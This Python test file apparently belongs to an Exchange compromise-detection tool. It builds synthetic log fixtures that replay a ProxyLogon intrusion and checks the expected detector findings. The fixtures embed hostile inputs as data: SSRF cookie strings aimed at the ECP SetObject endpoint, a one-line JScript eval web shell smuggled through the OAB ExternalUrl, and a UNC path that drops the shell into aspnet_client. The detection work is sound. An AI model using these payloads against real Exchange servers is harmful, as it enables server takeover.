"""ProxyLogon content end to end on line-level fixtures: real log headers and field lists (HttpProxy, IIS
W3C, ECP Server, OABGenerator), a few hundred benign lines around the attack, read by the project's
parsers (W3CParser, OabParser) through the prefilter, evaluated by the Sigma and file detectors.

SYNTHETIC: the lines are composed for this test from the documented formats (no public raw Exchange
logs exist); names and addresses are from documentation ranges.
"""

from __future__ import annotations

import random
from datetime import UTC, datetime, timedelta

import pytest

from exhunt.content.bundle import ContentBundle, ContentSpec
from exhunt.detectors.files.samples import MemoryTree
from exhunt.detectors.registry import load_content
from exhunt.engine import assess_host
from exhunt.model.finding import Finding, Outcome
from exhunt.model.result import HostResult, Verdict
from logfixtures import HTTPPROXY_FIELDS as HTTPPROXY_COLUMNS

V15 = "C/Program Files/Microsoft/Exchange Server/V15"
DAY = datetime(2021, 3, 3, tzinfo=UTC)
HTTPPROXY_FIELDS = ",".join(HTTPPROXY_COLUMNS)
IIS_FIELDS = ("date time s-ip cs-method cs-uri-stem cs-uri-query s-port cs-username c-ip cs(User-Agent) "
              "cs(Referer) sc-status sc-substatus sc-win32-status time-taken")
ECP_FIELDS = ("DateTime,ServerName,RequestId,ActivityId,ProcessId,ThreadId,AuthenticatedUser,ClientIpAddress,"
              "UrlStem,HttpMethod,HttpStatus,Cmdlet,ActivityContextLifeTime,GenericInfo,GenericErrors")
BROWSER = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/89.0"
ATTACKER = "203.0.113.7"
SCANNER = "198.51.100.20"
SHELL = b'<script language="JScript" runat="server">function Page_Load(){eval(Request["p"],"unsafe");}</script>'
BENIGN = [  # (protocol, method, stem, anchor, status)
    ("Owa", "POST", "/owa/service.svc", "SMTP:{u}@contoso.com", 200),
    ("Ews", "POST", "/EWS/Exchange.asmx", "SMTP:{u}@contoso.com", 200),
    ("Mapi", "POST", "/mapi/emsmdb/", "MailboxGuid~5b1f6e3a-{n:04d}-4c1d-9e2f-0a1b2c3d4e5f@contoso.com", 200),
    ("Eas", "POST", "/Microsoft-Server-ActiveSync/default.eas", "SMTP:{u}@contoso.com", 200),
    ("Autodiscover", "POST", "/autodiscover/autodiscover.xml", "SMTP:{u}@contoso.com", 200),
    ("Ecp", "POST", "/ecp/DDI/DDIService.svc/GetList", "SMTP:{u}@contoso.com", 200),
    ("Ews", "POST", "/EWS/Exchange.asmx", "", 401),
]


def _csv(values: list[str]) -> str:
    return ",".join('"' + v.replace('"', '""') + '"' if "," in v or '"' in v else v for v in values)


def _proxy_row(t: datetime, protocol: str, method: str, stem: str, anchor: str, status: int, user: str,
               ip: str, ua: str, backend: str = "", cookie: str = "", target: str = "ex01.contoso.local") -> str:
    row = dict.fromkeys(HTTPPROXY_FIELDS.split(","), "")
    row.update({
        "DateTime": t.strftime("%Y-%m-%dT%H:%M:%S.%f")[:-3] + "Z", "RequestId": f"{t.timestamp():.0f}-rq",
        "MajorVersion": "15", "MinorVersion": "1", "BuildVersion": "2106", "RevisionVersion": "2",
        "Protocol": protocol, "UrlHost": "mail.contoso.com", "UrlStem": stem, "AuthenticatedUser": user,
        "IsAuthenticated": "True" if user else "False", "AnchorMailbox": anchor, "UserAgent": ua,
        "ClientIpAddress": ip, "ServerHostName": "EX01", "HttpStatus": str(status),
        "BackEndStatus": backend or (str(status) if status < 400 else ""), "Method": method,
        "ProxyAction": "Proxy", "TargetServer": target if status < 400 else "", "BackEndCookie": cookie,
        "RoutingHint": "AnchorMailboxHeader-SMTP", "TotalRequestTime": "42",
    })
    return _csv(list(row.values()))


def _iis_row(t: datetime, method: str, stem: str, ip: str, ua: str, status: int, user: str = "-") -> str:
    return (f"{t:%Y-%m-%d %H:%M:%S} 10.0.0.5 {method} {stem} - 443 {user} {ip} {ua.replace(' ', '+')} - "
            f"{status} 0 0 {15 + t.second}")


def _host(attacked: bool) -> MemoryTree:
    rng = random.Random(7)
    proxy: list[str] = []
    iis: list[str] = []
    for i in range(400):
        t = DAY + timedelta(seconds=97 * i)
        protocol, method, stem, anchor, status = BENIGN[i % len(BENIGN)]
        user = f"user{rng.randint(1, 40):02d}"
        upn = f"{user}@contoso.com" if status < 400 else ""
        ua = "Microsoft Office/16.0 (Windows NT 10.0; Microsoft Outlook 16.0.13801; Pro), Mapi" \
            if protocol == "Mapi" else BROWSER
        proxy.append(_proxy_row(t, protocol, method, stem, anchor.format(u=user, n=i), status, upn,
                                f"10.0.{rng.randint(0, 3)}.{rng.randint(2, 250)}", ua))
        iis.append(_iis_row(t, method, stem, f"10.0.{rng.randint(0, 3)}.{rng.randint(2, 250)}", BROWSER,
                            status, upn or "-"))
    # near misses, on both hosts
    t = DAY + timedelta(hours=1)
    proxy.append(_proxy_row(t, "Ecp", "POST", "/ecp/y.js",
                            "ServerInfo~a]@ex01.contoso.local:444/autodiscover/autodiscover.xml?#", 200, "",
                            SCANNER, "python-requests/2.25.1"))
    proxy.append(_proxy_row(t + timedelta(seconds=5), "Owa", "GET", "/owa/auth/x.js",
                            "ServerInfo~localhost/owa/?", 500, "", SCANNER, "Mozilla/5.0 zgrab/0.x"))
    iis.append(_iis_row(t, "GET", "/owa/auth/Current/themes/resources/logon.css", "10.0.0.31", BROWSER, 200))
    ecp = [_csv([f"{DAY + timedelta(hours=2):%Y-%m-%dT%H:%M:%S}.000Z", "EX01", "r1", "a1", "7316", "12",
                 "CONTOSO\\exadmin", "10.0.0.21", "/ecp/DDI/DDIService.svc/SetObject", "POST", "200",
                 "Set-OabVirtualDirectory", "80",
                 "S:CMD=Set-OabVirtualDirectory.ExternalUrl='https://mail.contoso.com/OAB'.Identity='b3be'", ""])]
    oab_dir = f"{V15}\\ClientAccess\\OAB\\0f3a".replace("/", "\\").replace("C\\", "C:\\", 1)
    oab = [f"{DAY + timedelta(hours=h):%Y-%m-%dT%H:%M:%S}.123Z [ 17] Warning OABGeneratorAssistant: Download "
           f"failed and temporary file '{oab_dir}\\0f3a-lng409.lzx.tmp' needs to be removed." for h in (2, 10, 18)]
    files: dict[str, bytes] = {f"{V15}/bin/ExSetup.exe": b"MZ\x90\x00",
                               f"{V15}/FrontEnd/HttpProxy/owa/auth/logon.aspx": b"<%@ Page %>",
                               "C/Backup/exchange-config.zip": b"PK\x03\x04"}
    if attacked:
        t = DAY + timedelta(hours=4, minutes=5)
        ssrf = "ServerInfo~a]@ex01.contoso.local:444/ecp/DDI/DDIService.svc/SetObject?schema={}#"
        proxy.append(_proxy_row(t, "Ecp", "POST", "/ecp/y.js", ssrf.format("OABVirtualDirectory"), 200, "",
                                ATTACKER, "ExchangeServicesClient/0.0.0.0"))
        proxy.append(_proxy_row(t + timedelta(seconds=20), "Ecp", "POST", "/ecp/y.js",
                                ssrf.format("ResetOABVirtualDirectory"), 200, "", ATTACKER,
                                "ExchangeServicesClient/0.0.0.0"))
        iis.append(_iis_row(t, "POST", "/ecp/y.js", ATTACKER, "ExchangeServicesClient/0.0.0.0", 200))
        iis.append(_iis_row(t + timedelta(minutes=3), "POST", "/aspnet_client/discover.aspx", ATTACKER,
                            "Mozilla/5.0 (compatible)", 200))
        ecp.append(_csv([f"{t:%Y-%m-%dT%H:%M:%S}.000Z", "EX01", "r2", "a2", "7316", "31",
                         "CONTOSO\\Administrator", ATTACKER, "/ecp/DDI/DDIService.svc/SetObject", "POST", "200",
                         "Set-OabVirtualDirectory", "95",
                         "S:CMD=Set-OabVirtualDirectory.ExternalUrl='http://f/" + SHELL.decode() + "'.Identity='b3be'",
                         ""]))
        oab.append(f"{t + timedelta(seconds=25):%Y-%m-%dT%H:%M:%S}.456Z [ 42] Warning OABGeneratorAssistant: "
                   "Download failed and temporary file '\\\\127.0.0.1\\c$\\inetpub\\wwwroot\\aspnet_client\\"
                   "discover.aspx' needs to be removed.")
        files["C/inetpub/wwwroot/aspnet_client/discover.aspx"] = SHELL
        files["C/Windows/Temp/lsass.dmp"] = b"MDMP\x93\xa7\x00\x00"
        files["C/ProgramData/out.zip"] = b"Rar!\x1a\x07\x01\x00"
    header = ("#Software: Microsoft Exchange Server\r\n#Version: 15.01.2106.002\r\n#Log-type: {}\r\n"
              "#Date: 2021-03-03T00:00:00.000Z\r\n#Fields: {}\r\n")
    files[f"{V15}/Logging/HttpProxy/Ecp/HttpProxy_2021030300-1.LOG"] = (
        header.format("HttpProxy Logs", HTTPPROXY_FIELDS) + "\r\n".join(sorted(proxy)) + "\r\n").encode()
    files["C/inetpub/logs/LogFiles/W3SVC1/u_ex210303.log"] = (
        "#Software: Microsoft Internet Information Services 10.0\r\n#Version: 1.0\r\n#Date: 2021-03-03 00:00:00\r\n"
        f"#Fields: {IIS_FIELDS}\r\n" + "\r\n".join(sorted(iis)) + "\r\n").encode()
    files[f"{V15}/Logging/ECP/Server/ECPServer2021030300-1.LOG"] = (
        header.format("ECP Server Logs", ECP_FIELDS) + "\r\n".join(ecp) + "\r\n").encode()
    files[f"{V15}/Logging/OABGeneratorLog/OABGenerator_2021030300-1.LOG"] = ("\r\n".join(sorted(oab)) + "\r\n").encode()
    return MemoryTree(files, name="EX01")


@pytest.fixture(scope="module")
def bundle() -> ContentBundle:
    return load_content(ContentBundle(spec=ContentSpec()))


def _mine(result: HostResult) -> dict[tuple[str, str], Finding]:
    return {(f.rule_id, f.outcome.value): f for f in result.findings
            if f.rule_id.startswith(("EXH-PL-", "EXH-FILE-"))}


def test_compromised_host(bundle: ContentBundle) -> None:
    result = assess_host(_host(attacked=True), bundle)
    found = _mine(result)
    assert sorted(found) == sorted([
        ("EXH-PL-26855-SSRF", "succeeded"),
        ("EXH-PL-26855-SSRF-PROBE", "attempted"),
        ("EXH-PL-27065-RESET-VDIR", "succeeded"),
        ("EXH-PL-27065-ECP-VDIR-SCRIPT", "succeeded"),
        ("EXH-PL-26858-OAB-WRITE", "succeeded"),
        ("EXH-PL-26855-IIS-POST", "succeeded"),
        ("EXH-FILE-WEBSHELL-ASPNET-CLIENT", "confirmed"),
        ("EXH-FILE-LSASS-DUMP", "suspicious"),
        ("EXH-FILE-MINIDUMP-STAGED", "suspicious"),
        ("EXH-FILE-ARCHIVE-PROGRAMDATA", "suspicious"),
    ])
    assert result.verdict is Verdict.COMPROMISED
    ssrf = found[("EXH-PL-26855-SSRF", "succeeded")]
    assert ssrf.attr_values("client_ip") == [ATTACKER]
    assert ssrf.evidence_total == 2  # the SetObject and the ResetOABVirtualDirectory rows
    assert ssrf.evidence[0].path.endswith("HttpProxy_2021030300-1.LOG") and ssrf.evidence[0].line
    assert ssrf.first_seen is not None and ssrf.first_seen.startswith("2021-03-03T04:05")
    oab = found[("EXH-PL-26858-OAB-WRITE", "succeeded")]
    assert oab.attr_values("written_path") == ["\\\\127.0.0.1\\c$\\inetpub\\wwwroot\\aspnet_client\\discover.aspx"]
    shell = found[("EXH-FILE-WEBSHELL-ASPNET-CLIENT", "confirmed")]
    assert set(shell.attr_values("tied_by")) == {"iis-request", "written-path:oab-temporary-file"}
    assert shell.attr_values("client_ip") == [ATTACKER]
    assert shell.evidence[0].sha256 and len(shell.evidence) == 3
    probe = found[("EXH-PL-26855-SSRF-PROBE", "attempted")]
    assert probe.severity.label == "low" and probe.evidence_total == 2


def test_clean_host_only_probes(bundle: ContentBundle) -> None:
    result = assess_host(_host(attacked=False), bundle)
    assert sorted(_mine(result)) == [("EXH-PL-26855-SSRF-PROBE", "attempted")]
    assert result.verdict is Verdict.ATTEMPTED
    assert not [f for f in result.findings if f.outcome is Outcome.SUCCEEDED]
